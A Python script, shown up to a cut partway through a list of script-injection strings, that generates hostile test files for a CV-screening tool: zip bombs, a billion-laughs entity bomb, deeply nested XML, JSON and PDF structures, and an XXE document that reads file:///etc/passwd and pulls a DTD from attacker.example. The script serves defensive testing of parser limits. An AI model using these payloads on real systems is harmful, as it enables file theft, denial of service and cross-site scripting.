#!/usr/bin/env python3
"""Write tests/fixtures/hostile/: broken, oversized and malicious CV files.

    python3 scripts/hostile/make_hostile.py

Python 3.11 standard library only (plus ../fixtures/cvlib.py). The output is
byte-identical on every run with the same zlib: ZIP timestamps are fixed,
"random" bytes come from a SHA-256 chain, PDF /IDs are derived from the
file's own bytes. Every file is smaller than 1 MB; what they inflate,
expand or nest to is far larger.

Layout:

    tests/fixtures/hostile/README.md         what each file is, what must happen (written by this script)
    tests/fixtures/hostile/requirements.txt  the 4 requirement lines the files are screened against
    tests/fixtures/hostile/cvs/              the files themselves

The files sit in cvs/ so that screening the folder does not also screen the
README and the requirements. A file whose name starts with `safe-` is a
readable CV full of hostile *strings* (HTML, script, javascript: URLs, bidi
overrides, spreadsheet formulas, PDF JavaScript, a CVE-2024-4367 font
matrix): it may pass, and its text must be shown literally. Every other file
is broken, over a limit, or not what its name says, and must end as `review`
with a warning that says why.
"""

from __future__ import annotations

import hashlib
import json
import os
import struct
import sys
import zlib
from typing import Iterable, Iterator

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "fixtures"))
import cvlib  # noqa: E402

ROOT = os.path.normpath(os.path.join(HERE, "..", ".."))
OUT = os.path.join(ROOT, "tests", "fixtures", "hostile")
CVS = os.path.join(OUT, "cvs")
MAX_FILE = 1_000_000  # every fixture stays below this many bytes

REQUIREMENTS = [
    "Førerkort klasse B",
    "Autorisasjon som sykepleier",
    "Minst 2 års erfaring som sykepleier",
    "Politiattest må fremlegges",
]

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

# A plain, fictional CV that meets every requirement above (as on 2026-11-27).
CV_LINES = [
    "Kari Nordmann",
    "Sykepleier",
    "",
    "Erfaring",
    "2016 – 2024  Sykepleier, medisinsk avdeling, Havbu sykehus",
    "",
    "Utdanning",
    "2013 – 2016  Bachelor i sykepleie, Nordfjell universitet",
    "",
    "Autorisasjoner og sertifikater",
    "Autorisasjon som sykepleier (HPR), 2016",
    "Førerkort klasse B",
]


# ---------------------------------------------------------------------------
# Deterministic bytes
# ---------------------------------------------------------------------------


def noise(seed: str, n: int) -> bytes:
    """n pseudo-random bytes from a SHA-256 chain."""
    out = bytearray()
    h = seed.encode()
    while len(out) < n:
        h = hashlib.sha256(h).digest()
        out += h
    return bytes(out[:n])


# ---------------------------------------------------------------------------
# ZIP, with every header field under control (sizes may lie, entries may overlap)
# ---------------------------------------------------------------------------

DOS_TIME, DOS_DATE = 0, (1 << 5) | 1  # 1980-01-01 00:00


class Entry:
    """One archive member.

    data: bytes, or an iterable of byte chunks (deflated on the fly, never held whole).
    method: 8 deflate, 0 stored.
    declared_size: the uncompressed size written in both headers (default: the true one).
    shared_with: index of an earlier entry whose local header and data this
        central-directory entry points at (overlapping entries); no local header of its own.
    """

    def __init__(self, name: str, data, method: int = 8, declared_size: int | None = None,
                 shared_with: int | None = None):
        self.name, self.data, self.method = name, data, method
        self.declared_size, self.shared_with = declared_size, shared_with


def deflate(chunks: Iterable[bytes]) -> tuple[bytes, int, int]:
    """Raw deflate (zlib level 9): (compressed, crc32, uncompressed size)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    out, crc, size = [], 0, 0
    for c in chunks:
        crc = zlib.crc32(c, crc)
        size += len(c)
        out.append(comp.compress(c))
    out.append(comp.flush())
    return b"".join(out), crc & 0xFFFFFFFF, size


def zip_bytes(entries: list[Entry], claimed_entries: int | None = None) -> bytes:
    out = bytearray()
    central = []
    info = []  # per entry: (offset, crc, csize, usize, method)
    for e in entries:
        bname = e.name.encode("utf-8")
        if e.shared_with is not None:
            offset, crc, csize, usize, method = info[e.shared_with]
        else:
            chunks = [e.data] if isinstance(e.data, (bytes, bytearray)) else e.data
            if e.method == 8:
                comp, crc, size = deflate(chunks)
            else:
                comp = b"".join(chunks)
                crc, size = zlib.crc32(comp) & 0xFFFFFFFF, len(comp)
            usize = size if e.declared_size is None else e.declared_size
            csize, method, offset = len(comp), e.method, len(out)
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, DOS_TIME, DOS_DATE,
                               crc, csize, usize, len(bname), 0) + bname + comp
        info.append((offset, crc, csize, usize, method))
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, DOS_TIME, DOS_DATE,
                                   crc, csize, usize, len(bname), 0, 0, 0, 0, 0o100644 << 16, offset) + bname)
    cd = b"".join(central)
    cd_at = len(out)
    out += cd
    n = len(central) if claimed_entries is None else claimed_entries
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd), cd_at, 0)
    return bytes(out)


CONTENT_TYPES = cvlib._CONTENT_TYPES_MIN.encode()
ROOT_RELS = cvlib._ROOT_RELS_MIN.encode()


def document_xml(paragraphs: list[str], prolog: str = "") -> bytes:
    body = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{cvlib._xml_escape(p)}</w:t></w:r></w:p>' if p else "<w:p/>"
        for p in paragraphs
    )
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + prolog
            + f'<w:document xmlns:w="{W_NS}"><w:body>{body}<w:sectPr/></w:body></w:document>').encode("utf-8")


def docx_bytes(paragraphs: list[str]) -> bytes:
    return zip_bytes([Entry("[Content_Types].xml", CONTENT_TYPES), Entry("_rels/.rels", ROOT_RELS),
                      Entry("word/document.xml", document_xml(paragraphs))])


def docx_with_document(doc: bytes | Iterable[bytes], **kw) -> bytes:
    return zip_bytes([Entry("[Content_Types].xml", CONTENT_TYPES), Entry("_rels/.rels", ROOT_RELS),
                      Entry("word/document.xml", doc, **kw)])


def repeated(head: bytes, unit: bytes, total: int, tail: bytes, chunk_units: int = 1 << 15) -> Iterator[bytes]:
    """head + unit * n + tail with about `total` bytes, in chunks (never whole in memory)."""
    n = max(0, (total - len(head) - len(tail)) // len(unit))
    yield head
    block = unit * chunk_units
    while n >= chunk_units:
        yield block
        n -= chunk_units
    yield unit * n
    yield tail


XML_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<w:document xmlns:w="{W_NS}"><w:body>').encode()
XML_TAIL = b"<w:sectPr/></w:body></w:document>"
BOMB_PARA = "<w:p><w:r><w:t>Førerkort klasse B. </w:t></w:r></w:p>".encode()


# ---------------------------------------------------------------------------
# PDF, object by object
# ---------------------------------------------------------------------------


def pdf_str(s: str) -> bytes:
    return cvlib._pdf_str(s)


def stream(data: bytes, extra: bytes = b"", compress: bool = True) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra = b"/Filter /FlateDecode " + extra
    return b"<< " + extra + f"/Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"


def text_ops(lines: list[str], font: bytes = b"/F1", size: int = 10, top: int = 780) -> bytes:
    out = [b"BT\n", font + f" {size} Tf\n".encode(), f"{size + 3} TL\n56 {top} Td\n".encode()]
    for ln in lines:
        out.append(pdf_str(ln) + b" '\n")
    out.append(b"ET\n")
    return b"".join(out)


HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
MEDIABOX = b"/MediaBox [0 0 595.28 841.89]"


def pdf_bytes(objects: list[bytes | None], *, root: int = 1, trailer: bytes = b"", version: str = "1.4",
              id_bytes: bytes | None = None) -> bytes:
    """A PDF with objects 1..n (a None leaves a free slot) and a classic xref table."""
    out = bytearray(f"%PDF-{version}\n%\xe2\xe3\xcf\xd3\n".encode("latin-1"))
    offsets = []
    for n, body in enumerate(objects, start=1):
        if body is None:
            offsets.append(None)
            continue
        offsets.append(len(out))
        out += f"{n} 0 obj\n".encode() + body + b"\nendobj\n"
    fid = (id_bytes or hashlib.md5(bytes(out)).digest()).hex().upper().encode()
    xref_at = len(out)
    out += f"xref\n0 {len(objects) + 1}\n".encode() + b"0000000000 65535 f \n"
    for off in offsets:
        out += b"0000000000 65535 f \n" if off is None else f"{off:010d} 00000 n \n".encode()
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R ".encode() + trailer
            + b" /ID [<" + fid + b"> <" + fid + b">] >>\n" + f"startxref\n{xref_at}\n%%EOF\n".encode())
    return bytes(out)


def simple_pdf(pages_lines: list[list[str]], resources: bytes | None = None, font_objs: list[bytes] | None = None,
               catalog_extra: bytes = b"", page_extra: bytes = b"", extra_objs: list[bytes] | None = None,
               sizes: list[int] | None = None) -> bytes:
    """1 Catalog, 2 Pages, 3 Helvetica, [font_objs 4..], [extra_objs], then page/content pairs."""
    font_objs = font_objs or []
    extra_objs = extra_objs or []
    first = 4 + len(font_objs) + len(extra_objs)
    kids = " ".join(f"{first + 2 * i} 0 R" for i in range(len(pages_lines)))
    objs: list[bytes | None] = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        f"<< /Type /Pages /Kids [{kids}] /Count {len(pages_lines)} >>".encode(),
        HELVETICA,
    ]
    objs += font_objs + extra_objs
    res = resources or b"<< /Font << /F1 3 0 R >> >>"
    for i, lines in enumerate(pages_lines):
        objs.append(b"<< /Type /Page /Parent 2 0 R " + MEDIABOX + b" /Resources " + res + page_extra
                    + f" /Contents {first + 2 * i + 1} 0 R >>".encode())
        objs.append(stream(text_ops(lines, size=sizes[i] if sizes else 10)))
    return pdf_bytes(objs)


# --- RC4 and the standard security handler (revision 2, 40-bit) ---------------

PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def rc4(key: bytes, data: bytes) -> bytes:
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 0xFF
        s[i], s[j] = s[j], s[i]
    out = bytearray()
    i = j = 0
    for b in data:
        i = (i + 1) & 0xFF
        j = (j + s[i]) & 0xFF
        s[i], s[j] = s[j], s[i]
        out.append(b ^ s[(s[i] + s[j]) & 0xFF])
    return bytes(out)


def encrypted_pdf(lines: list[str], user_pw: bytes, owner_pw: bytes) -> bytes:
    """A one-page PDF encrypted with RC4-40 (V1 R2) that opens only with `user_pw`."""
    fid = hashlib.md5(b"sikte hostile encrypted.pdf").digest()
    p = -4
    okey = hashlib.md5((owner_pw + PAD)[:32]).digest()[:5]
    o = rc4(okey, (user_pw + PAD)[:32])
    key = hashlib.md5((user_pw + PAD)[:32] + o + struct.pack("<i", p) + fid).digest()[:5]
    u = rc4(key, PAD)

    def obj_key(num: int) -> bytes:
        return hashlib.md5(key + num.to_bytes(3, "little") + (0).to_bytes(2, "little")).digest()[:10]

    def enc_stream(num: int, data: bytes) -> bytes:
        comp = rc4(obj_key(num), zlib.compress(data, 9))
        return f"<< /Filter /FlateDecode /Length {len(comp)} >>\nstream\n".encode() + comp + b"\nendstream"

    def enc_str(num: int, s: str) -> bytes:
        return b"<" + rc4(obj_key(num), s.encode("latin-1")).hex().upper().encode() + b">"

    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        HELVETICA,
        b"<< /Type /Page /Parent 2 0 R " + MEDIABOX + b" /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>",
        enc_stream(5, text_ops(lines)),
        b"<< /Title " + enc_str(6, "Kryptert CV") + b" /Producer " + enc_str(6, "Sikte hostile fixtures") + b" >>",
        b"<< /Filter /Standard /V 1 /R 2 /Length 40 /P " + str(p).encode()
        + b" /O <" + o.hex().upper().encode() + b"> /U <" + u.hex().upper().encode() + b"> >>",
    ]
    return pdf_bytes(objs, trailer=b"/Info 6 0 R /Encrypt 7 0 R", id_bytes=fid)


# --- a minimal Type 1 font program (for the CVE-2024-4367 fixture) -------------


def t1_encrypt(data: bytes, r: int) -> bytes:
    out = bytearray()
    for p in data:
        c = p ^ (r >> 8)
        out.append(c)
        r = ((c + r) * 52845 + 22719) & 0xFFFF
    return bytes(out)


def t1_num(v: int) -> bytes:
    if -107 <= v <= 107:
        return bytes([v + 139])
    if 108 <= v <= 1131:
        v -= 108
        return bytes([(v >> 8) + 247, v & 0xFF])
    if -1131 <= v <= -108:
        v = -v - 108
        return bytes([(v >> 8) + 251, v & 0xFF])
    return b"\xff" + struct.pack(">i", v)


def t1_charstring(width: int, box: bool) -> bytes:
    hsbw, rmoveto, rlineto, closepath, endchar = b"\x0d", b"\x15", b"\x05", b"\x09", b"\x0e"
    cs = t1_num(0) + t1_num(width) + hsbw
    if box:
        cs += t1_num(50) + t1_num(0) + rmoveto
        for dx, dy in ((width - 100, 0), (0, 700), (100 - width, 0)):
            cs += t1_num(dx) + t1_num(dy) + rlineto
        cs += closepath
    cs += endchar
    return t1_encrypt(b"\x00\x00\x00\x00" + cs, 4330)


T1_GLYPHS = {
    " ": "space", ",": "comma", ".": "period", "-": "hyphen", "(": "parenleft", ")": "parenright",
    ":": "colon", "/": "slash", "–": "endash", "ø": "oslash", "å": "aring", "æ": "ae", "Ø": "Oslash",
    "Å": "Aring", "Æ": "AE",
    **{str(d): n for d, n in enumerate(["zero", "one", "two", "three", "four", "five", "six", "seven", "eight",
                                        "nine"])},
}


def t1_glyph(ch: str) -> str:
    return ch if ch.isascii() and ch.isalpha() else T1_GLYPHS[ch]


def type1_font(name: str, chars: str) -> tuple[bytes, int, int, int]:
    """A Type 1 font program with a box glyph per character: (bytes, Length1, Length2, Length3)."""
    clear = (
        "%!PS-AdobeFont-1.0: " + name + " 001.000\n"
        "11 dict begin\n"
        "/FontInfo 2 dict dup begin /FullName (" + name + ") readonly def /Weight (Regular) readonly def end readonly def\n"
        "/FontName /" + name + " def\n"
        "/Encoding StandardEncoding def\n"
        "/PaintType 0 def\n/FontType 1 def\n"
        "/FontMatrix [0.001 0 0 0.001 0 0] readonly def\n"
        "/FontBBox {0 0 1000 800} readonly def\n"
        "currentdict end\ncurrentfile eexec\n"
    ).encode()
    glyphs = sorted({t1_glyph(c) for c in chars} | {".notdef", "space"})
    priv = bytearray(
        b"dup /Private 8 dict dup begin\n"
        b"/RD {string currentfile exch readstring pop} executeonly def\n"
        b"/ND {noaccess def} executeonly def\n/NP {noaccess put} executeonly def\n"
        b"/BlueValues [] def\n/MinFeature {16 16} def\n/password 5839 def\n/lenIV 4 def\n"
        b"/Subrs 0 array ND\n"
        + f"2 index /CharStrings {len(glyphs)} dict dup begin\n".encode()
    )
    for g in glyphs:
        cs = t1_charstring(600 if g not in (".notdef", "space") else 300, g not in (".notdef", "space"))
        priv += f"/{g} {len(cs)} RD ".encode() + cs + b" ND\n"
    priv += (b"end\nend\nreadonly put\nnoaccess put\n"
             b"dup /FontName get exch definefont pop\nmark currentfile closefile\n")
    body = t1_encrypt(b"\x00\x00\x00\x00" + bytes(priv), 55665)
    trailer = (("0" * 64 + "\n") * 8 + "cleartomark\n").encode()
    return clear + body + trailer, len(clear), len(body), len(trailer)


# ---------------------------------------------------------------------------
# The fixtures
# ---------------------------------------------------------------------------

FIXTURES: list[tuple[str, str, str]] = []  # (file, what it is, what must happen)


def emit(name: str, data: bytes, what: str, must: str) -> None:
    if len(data) >= MAX_FILE:
        raise SystemExit(f"{name} is {len(data)} bytes, over {MAX_FILE}")
    cvlib.write_bytes(os.path.join(CVS, name), data)
    FIXTURES.append((name, what, must))


REVIEW = "`review`, with a warning that says why; the batch goes on"


def zip_bombs() -> None:
    total = 100 * 1000 * 1000
    emit("zip-bomb-honest.docx",
         docx_with_document(repeated(XML_HEAD, BOMB_PARA, total, XML_TAIL)),
         f"Valid DOCX whose word/document.xml inflates to about {total // 10**6} MB; both headers declare the "
         "true size and CRC.",
         REVIEW + " (inflated bytes over the limit, counted while inflating).")
    emit("zip-bomb-underdeclared.docx",
         docx_with_document(repeated(XML_HEAD, BOMB_PARA, total, XML_TAIL), declared_size=4096),
         f"The same {total // 10**6} MB document.xml, but the local and central headers declare an uncompressed "
         "size of 4096 bytes (the CRC is the true one). A reader that trusts the header allocates 4 kB and "
         "inflates 200 MB.",
         REVIEW + " (the inflated bytes are counted, not taken from the header).")
    # Plain text outside any <w:t>: cheap to parse, so the test measures the budget, not XML parsing
    # speed (64 MB of real paragraphs take about 10 s to parse in a debug build, 0.4 s in release).
    kernel = repeated(b"", b"A" * 4096, 8 * 1000 * 1000, b"")
    hdr_head = f'<w:hdr xmlns:w="{W_NS}">'.encode()
    entries = [Entry("[Content_Types].xml", CONTENT_TYPES), Entry("_rels/.rels", ROOT_RELS),
               Entry("word/document.xml", document_xml(CV_LINES)),
               Entry("word/header1.xml", [hdr_head, *kernel, b"</w:hdr>"])]
    entries += [Entry(f"word/header{i}.xml", b"", shared_with=3) for i in range(2, 1001)]
    emit("zip-bomb-overlapping.docx", zip_bytes(entries),
         "DOCX whose 1,000 central-directory entries word/header1.xml … word/header1000.xml all point at the "
         "same data, which inflates to 8 MB (an overlapping-entry zip bomb, about 8 GB in all); word/document.xml is "
         "a normal CV.",
         REVIEW + " (the inflated-bytes budget is shared by all parts of one file).")


def xml_attacks() -> None:
    lol = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else f"lol{i - 1}"
        lol.append(f'<!ENTITY lol{i} "' + f"&{prev};" * 10 + '">')
    dtd = "<!DOCTYPE w:document [\n  " + "\n  ".join(lol) + "\n]>\n"
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + dtd
           + f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>Førerkort klasse B &lol9;</w:t></w:r></w:p>'
           "<w:sectPr/></w:body></w:document>").encode()
    emit("billion-laughs.docx", docx_with_document(doc),
         "DOCX whose document.xml declares a DTD with ten levels of ten nested entities (&lol9; expands to "
         "10^9 'lol's, 3 GB).",
         REVIEW + " (a DTD is refused; no entity is expanded).")
    xxe = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<!DOCTYPE w:document SYSTEM "https://attacker.example/evil.dtd" [\n'
           '  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
           '  <!ENTITY % remote SYSTEM "https://attacker.example/remote.dtd"> %remote;\n]>\n'
           f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>Førerkort klasse B &xxe;</w:t></w:r></w:p>'
           "<w:sectPr/></w:body></w:document>").encode()
    emit("xxe-external-entity.docx", docx_with_document(xxe),
         "DOCX whose document.xml has an external DTD (https://attacker.example/evil.dtd), an external "
         "entity for file:///etc/passwd and a remote parameter entity.",
         REVIEW + "; no file is read and no request is made.")
    depth = 100_000
    deep = XML_HEAD + b"<w:p>" * depth + b"<w:r><w:t>dypt</w:t></w:r>" + b"</w:p>" * depth + XML_TAIL
    emit("deep-xml.docx", docx_with_document(deep),
         f"DOCX whose document.xml nests <w:p> {depth:,} deep (1.1 MB of XML).",
         REVIEW + " (XML nested deeper than the limit).")


def many_entries() -> None:
    entries = [Entry("[Content_Types].xml", CONTENT_TYPES), Entry("_rels/.rels", ROOT_RELS),
               Entry("word/document.xml", document_xml(CV_LINES))]
    n = 0
    while True:
        entries.append(Entry(f"x/{n:05d}", b"", method=0))
        n += 1
        # local header 30 + name 7, central 46 + name 7 = 90 bytes per entry
        if (n + 1) * 90 + 2_000 > MAX_FILE - 20_000:
            break
    emit("many-entries.docx", zip_bytes(entries),
         f"Valid DOCX (a normal CV) with {n + 3:,} entries, as many empty members as fit in under 1 MB "
         "(a ZIP needs at least 76 bytes per entry, so 100,000 cannot fit).",
         REVIEW + " (more entries than the limit).")
    emit("entry-count-lies.docx", zip_bytes(entries[:3], claimed_entries=65_535),
         "DOCX with 3 entries whose end-of-central-directory record claims 65,535.",
         REVIEW + " (not a valid archive, or over the entry limit).")


def json_attack() -> None:
    depth = 100_000
    data = b'{"basics": {"name": "Kari Nordmann"}, "work": ' + b"[" * depth + b"]" * depth + b"}"
    emit("deep-nesting.json", data,
         f"JSON Resume whose `work` is an array nested {depth:,} deep.",
         REVIEW + " (the JSON parser's depth limit, not a stack overflow).")


def pdf_attacks() -> None:
    depth = 100_000
    content = (text_ops(["Førerkort klasse B"]) + b"BT /F1 10 Tf 56 700 Td " + b"[" * depth + b"(dypt)"
               + b"]" * depth + b" TJ ET\n")
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", HELVETICA,
            b"<< /Type /Page /Parent 2 0 R " + MEDIABOX + b" /Resources << /Font << /F1 3 0 R >> >> "
            b"/Contents 5 0 R >>", stream(content)]
    emit("deep-array-content.pdf", pdf_bytes(objs),
         f"PDF whose content stream (FlateDecode) holds a TJ operand array nested {depth:,} deep.",
         REVIEW + " (nesting over the limit; the reader must not overflow its stack).")

    depth = 60_000
    deep = b"<< /A [" * depth + b"0" + b"] >>" * depth
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", HELVETICA,
            b"<< /Type /Page /Parent 2 0 R " + MEDIABOX + b" /Resources << /Font << /F1 3 0 R >> "
            b"/Properties << /P0 6 0 R >> >> /Contents 5 0 R >>",
            stream(text_ops(["Førerkort klasse B"])), deep]
    emit("deep-dict-object.pdf", pdf_bytes(objs),
         f"PDF with an object (referenced from the page's resources) of dictionaries and arrays nested "
         f"{2 * depth:,} deep, in the file body.",
         REVIEW + " (nesting over the limit).")

    # The same nesting inside a compressed object stream, reached through a cross-reference stream.
    depth = 100_000
    deep = b"[" * depth + b"0" + b"]" * depth
    objstm_body = b"6 0 " + deep
    objstm = stream(objstm_body, b"/Type /ObjStm /N 1 /First 4 ")
    head = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", HELVETICA,
            b"<< /Type /Page /Parent 2 0 R " + MEDIABOX + b" /Resources << /Font << /F1 3 0 R >> "
            b"/Properties << /P0 6 0 R >> >> /Contents 5 0 R >>",
            stream(text_ops(["Førerkort klasse B"]))]
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(head, start=1):
        offsets.append(len(out))
        out += f"{n} 0 obj\n".encode() + body + b"\nendobj\n"
    # 6 lives in object stream 7; 8 is the xref stream
    offsets_7 = len(out)
    out += b"7 0 obj\n" + objstm + b"\nendobj\n"
    xref_at = len(out)
    rows = [b"\x00" + struct.pack(">I", 0) + b"\xff\xff"]
    rows += [b"\x01" + struct.pack(">I", off) + b"\x00\x00" for off in offsets]
    rows.append(b"\x02" + struct.pack(">I", 7) + b"\x00\x00")
    rows.append(b"\x01" + struct.pack(">I", offsets_7) + b"\x00\x00")
    rows.append(b"\x01" + struct.pack(">I", xref_at) + b"\x00\x00")
    xdata = zlib.compress(b"".join(rows), 9)
    fid = hashlib.md5(bytes(out)).hexdigest().upper().encode()
    out += (b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /ID [<" + fid + b"> <" + fid + b">] "
            + f"/Filter /FlateDecode /Length {len(xdata)} >>\nstream\n".encode() + xdata
            + b"\nendstream\nendobj\n" + f"startxref\n{xref_at}\n%%EOF\n".encode())
    emit("deep-objstm.pdf", bytes(out),
         f"PDF 1.5 whose object 6 (referenced from the page) is an array nested {depth:,} deep, stored inside a "
         "compressed object stream and found through a cross-reference stream.",
         REVIEW + " (nesting over the limit, found after decoding the object stream).")

    # The documented hole: the nesting check decodes only filters named in the stream's own dictionary.
    depth = 1_000_000
    content = text_ops(["Førerkort klasse B"]) + b"BT /F1 10 Tf " + b"[" * depth + b"]" * depth + b" TJ ET\n"
    comp = zlib.compress(content, 9)
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", HELVETICA,
            b"<< /Type /Page /Parent 2 0 R " + MEDIABOX + b" /Resources << /Font << /F1 3 0 R >> >> "
            b"/Contents 5 0 R >>",
            f"<< /Filter 6 0 R /Length 7 0 R >>\nstream\n".encode() + comp + b"\nendstream",
            b"/FlateDecode", str(len(comp)).encode()]
    emit("deep-indirect-filter.pdf", pdf_bytes(objs),
         f"PDF whose content stream nests a TJ array {depth:,} deep, with /Filter and /Length as indirect "
         "objects (6 0 R, 7 0 R), so a check that only decodes filters named in the stream dictionary sees "
         "compressed bytes.",
         REVIEW + " (the reader must not overflow its stack and abort the process).")


def page_count_attacks() -> None:
    n_pages, per_node = 5_000, 100
    nodes = n_pages // per_node
    # 1 catalog, 2 root, 3 font, 4 first page's content, 5 shared content, 6.. nodes, then pages
    first_node = 6
    first_page = first_node + nodes
    objs: list[bytes | None] = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        (f"<< /Type /Pages /Kids [{' '.join(f'{first_node + i} 0 R' for i in range(nodes))}] /Count {n_pages} "
         f"/Resources << /Font << /F1 3 0 R >> >> ").encode() + MEDIABOX + b" >>",
        HELVETICA,
        stream(text_ops(CV_LINES)),
        stream(text_ops(["Vedlegg"])),
    ]
    for i in range(nodes):
        kids = " ".join(f"{first_page + i * per_node + k} 0 R" for k in range(per_node))
        objs.append(f"<< /Type /Pages /Parent 2 0 R /Kids [{kids}] /Count {per_node} >>".encode())
    for p in range(n_pages):
        parent = first_node + p // per_node
        objs.append(f"<< /Type /Page /Parent {parent} 0 R /Contents {4 if p == 0 else 5} 0 R >>".encode())
    emit("pages-5000.pdf", pdf_bytes(objs),
         "A real page tree (50 nodes of 100) with 5,000 pages; page 1 is a complete CV that meets every "
         "requirement, pages 2–5,000 say 'Vedlegg'.",
         REVIEW + " (page count over the limit: only the first pages are read, and a file over a limit is "
         "never `pass`).")

    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 5000 >>", HELVETICA,
            b"<< /Type /Page /Parent 2 0 R " + MEDIABOX + b" /Resources << /Font << /F1 3 0 R >> >> "
            b"/Contents 5 0 R >>", stream(text_ops(["Førerkort klasse B"]))]
    emit("pages-claimed-5000.pdf", pdf_bytes(objs),
         "PDF whose page tree claims /Count 5000 but has one page.",
         REVIEW + ".")


def broken_files() -> None:
    emit("encrypted-password.pdf", encrypted_pdf(CV_LINES, b"hemmelig", b"eier-hemmelig"),
         "A complete CV PDF encrypted with RC4 (standard security handler, V1 R2, 40-bit) that opens only "
         "with the user password 'hemmelig'.",
         REVIEW + " (encrypted with a password; not read).")
    pdf = simple_pdf([CV_LINES])
    cut = pdf.index(b"stream\n", pdf.index(b"/FlateDecode")) + 7 + 20
    emit("truncated.pdf", pdf[:cut],
         "A complete CV PDF cut off 20 bytes into its compressed content stream: no end of stream, no xref, "
         "no trailer.",
         REVIEW + ".")
    docx = docx_bytes(CV_LINES)
    emit("truncated.docx", docx[: len(docx) * 6 // 10],
         "A complete CV DOCX cut at 60 %: no central directory.",
         REVIEW + ".")
    filler = ("Hobbyer: fotball og fjellturer. " * 20 + "\n") * 1000
    emit("over-text-limit.txt", ("\n".join(CV_LINES) + "\n\n" + filler).encode(),
         f"A complete CV followed by {len(filler.encode()):,} bytes of hobbies: text over the 512 KiB limit.",
         REVIEW + " (text over the limit: the rest is not screened, and a file over a limit is never `pass`).")
    filler_lines = ["Hobbyer: fotball og fjellturer. " * 9] * 120  # 3-point type: it fits on the page
    pages = [CV_LINES] + [filler_lines] * 16
    pdf = simple_pdf(pages, sizes=[10] + [3] * 16)
    emit("over-text-limit.pdf", pdf,
         f"A complete CV on page 1, then 16 pages of hobbies in 3-point type: about "
         f"{sum(len(' '.join(p)) for p in pages) // 1000} kB "
         "of text, over the 512 KiB limit (the CLI's reader stops at it; in the page, pdf.js hands all of it to "
         "the core, which cuts it).",
         REVIEW + " (text over the limit, however the text was read).")
    emit("image-only.pdf", image_only_pdf(),
         "One page whose only content is a grey-scale image (a 'scan'); no text layer.",
         REVIEW + " ('no text layer (scanned?)').")


def image_only_pdf() -> bytes:
    w, h = 120, 170
    rows = bytearray()
    for y in range(h):
        for x in range(w):
            rows.append(60 if (y % 10 in (3, 4, 5) and 10 <= x < 110 - (y * 7) % 40) else 255)
    img = zlib.compress(bytes(rows), 9)
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            f"<< /Type /XObject /Subtype /Image /Width {w} /Height {h} /ColorSpace /DeviceGray "
            f"/BitsPerComponent 8 /Filter /FlateDecode /Length {len(img)} >>\nstream\n".encode() + img
            + b"\nendstream",
            b"<< /Type /Page /Parent 2 0 R " + MEDIABOX + b" /Resources << /XObject << /Im0 3 0 R >> >> "
            b"/Contents 5 0 R >>",
            stream(b"q 595.28 0 0 841.89 0 0 cm /Im0 Do Q\n")]
    return pdf_bytes(objs)


def wrong_extensions() -> None:
    lines = ["Ola Nordmann", "Førerkort klasse B"]
    emit("pdf-named.docx", simple_pdf([lines]),
         "A PDF (a short CV that only shows a driving licence) named .docx.",
         REVIEW + " (read as PDF with a warning that the name says otherwise; the other requirements are "
         "not shown).")
    emit("docx-named.txt", docx_bytes(lines),
         "A DOCX (the same short CV) named .txt.",
         REVIEW + " (read as DOCX with a warning; the other requirements are not shown).")
    data = bytearray(b"\x7fELF\x02\x01\x01" + b"\x00" * 9)
    for i, b in enumerate(noise("binary-named.txt", 4080)):
        data.append(0 if i % 4 == 0 else b)
    emit("binary-named.txt", bytes(data),
         "4 kB of binary (an ELF header, then bytes of which a quarter are NUL) named .txt.",
         REVIEW + " ('the file looks binary').")


# --- readable CVs full of hostile strings: safe-* -------------------------------

HTML_STRINGS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert('skript')</script>",
    "<iframe src=\"javascript:alert(3)\"></iframe>",
    "<svg/onload=alert(4)>",
    "\"><img src=x onerror=alert(5)>",
    "</textarea><script>alert(6)</script>",
